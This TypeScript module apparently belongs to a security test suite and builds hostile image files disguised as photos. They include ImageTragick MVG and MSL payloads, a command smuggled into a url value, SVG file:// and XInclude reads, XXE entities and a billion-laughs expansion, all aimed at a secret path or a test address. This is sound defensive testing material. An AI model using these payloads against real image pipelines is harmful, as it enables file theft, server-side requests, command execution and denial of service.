import { type HostileFile, type Lures, textFile } from './hostile-file.ts'

/** Drawings and scripts of the ImageTragick kind, under the names of photos: each wants a local file or a call of the network. */
export function hostileDrawings({ secretPath, address }: Lures): HostileFile[] {
  const mvg = (inner: string) => ['push graphic-context', 'viewbox 0 0 640 480', inner, 'pop graphic-context']
  const svg = (inner: string) => [
    '<?xml version="1.0"?>',
    '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="640" height="480">',
    inner,
    '</svg>',
  ]
  const msl = (inner: string) => ['<?xml version="1.0"?>', '<image>', inner, '<write filename="msl-was-here.png" />', '</image>']
  return [
    textFile('fetch.mvg', mvg(`fill 'url(${address}/mvg.jpg)'`)),
    textFile('fetch-as.jpg', mvg(`image over 0,0 0,0 '${address}/mvg-as.jpg'`)),
    textFile('command.png', mvg(`fill 'url(${address}/x.jpg"|touch "mvg-was-here)'`)),
    textFile('label.gif', mvg(`image over 0,0 0,0 'label:@${secretPath}'`)),
    textFile('ephemeral.jpg', mvg(`image over 0,0 0,0 'ephemeral:${secretPath}'`)),
    textFile('script.msl', msl(`<read filename="${address}/msl.jpg" />`)),
    textFile('script.jpg', msl(`<read filename="${secretPath}" />`)),
    textFile('remote.svg', svg(`<image xlink:href="${address}/svg.png" width="64" height="64"/>`)),
    textFile('local.svg', svg(`<image xlink:href="file://${secretPath}" width="64" height="64"/>`)),
    textFile(
      'named.jpg',
      svg(`<image xlink:href="${address}/svg-named.png" width="64" height="64"/><style>@import url(${address}/a.css);</style>`),
    ),
    textFile('included.svg', svg(`<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file://${secretPath}" parse="text"/>`)),
    textFile('entity.svg', [
      '<?xml version="1.0"?>',
      `<!DOCTYPE svg [<!ENTITY secret SYSTEM "file://${secretPath}"><!ENTITY far SYSTEM "${address}/entity">]>`,
      '<svg xmlns="http://www.w3.org/2000/svg"><text>&secret;&far;</text></svg>',
    ]),
    textFile('laughs.svg', ['<?xml version="1.0"?>', laughs(), '<svg xmlns="http://www.w3.org/2000/svg"><text>&l9;</text></svg>']),
  ]
}

/** Nine entities, each ten times the one before. */
function laughs(): string {
  const entities = Array.from({ length: 9 }, (_, index) => `<!ENTITY l${index + 1} "${`&l${index};`.repeat(10)}">`)
  return `<!DOCTYPE svg [<!ENTITY l0 "ha">${entities.join('')}]>`
}
